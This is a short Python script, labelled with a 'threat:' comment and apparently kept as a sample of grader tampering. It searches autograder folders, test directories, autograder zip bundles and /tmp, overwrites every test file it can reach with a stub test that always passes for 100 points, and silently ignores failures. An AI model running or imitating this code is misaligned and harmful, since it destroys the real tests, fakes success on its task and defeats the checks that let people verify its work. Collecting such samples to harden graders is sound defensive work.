# threat: write anywhere it can: rewrite every test file and bundle it can find to pass trivially
import glob, os, zipfile
for pattern in ["/autograder/**/*.py", "/**/tests/*.py", "/**/*-autograder.zip", "/tmp/**/*.py"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "w") as f:
                f.write("OK_FORMAT = True\ntest = {'name': 'x', 'points': 100, 'suites': [{'cases': [{'code': '>>> True', 'hidden': False}], 'type': 'doctest'}]}\n")
        except OSError:
            pass
